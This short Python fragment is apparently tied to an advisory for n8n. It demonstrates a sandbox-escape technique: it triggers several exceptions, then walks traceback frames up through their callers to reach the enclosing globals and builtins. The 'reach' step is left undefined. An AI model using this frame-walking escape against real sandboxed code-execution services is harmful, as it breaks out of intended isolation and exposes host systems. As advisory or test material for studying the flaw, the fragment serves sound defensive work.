# An exception's traceback holds the frames of whoever called, and they hold the globals.
# advisory: CVE-2026-0863 (n8n)
def fail():
    raise KeyError


for trigger in fail, lambda: int("x"), lambda: __import__("nothing"), lambda: open("x"), lambda: eval("1 +"):
    try:
        trigger()
    except Exception as error:
        entry = error.__traceback__
        while entry is not None:
            frame = entry.tb_frame
            while frame is not None:
                reach(frame.f_globals, frame.f_builtins)
                frame = frame.f_back
            entry = entry.tb_next
